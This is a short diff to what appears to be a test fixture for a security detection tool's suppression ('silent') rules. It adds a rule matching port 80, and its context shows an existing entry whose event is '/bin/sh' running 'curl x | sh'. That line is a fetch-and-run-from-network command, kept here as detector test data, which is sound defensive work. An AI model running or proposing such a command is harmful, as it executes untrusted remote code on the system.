@@ -56,6 +56,9 @@ silent:
     why: another product
     category: c
     event: {Image: /bin/sh, CommandLine: 'curl x | sh', Parent: null}
+  - rule: 00000000-0000-4000-8000-00000000000a
+    category: c
+    event: {Port: 80}
 ";
 
 /// Release 7 of `test`.
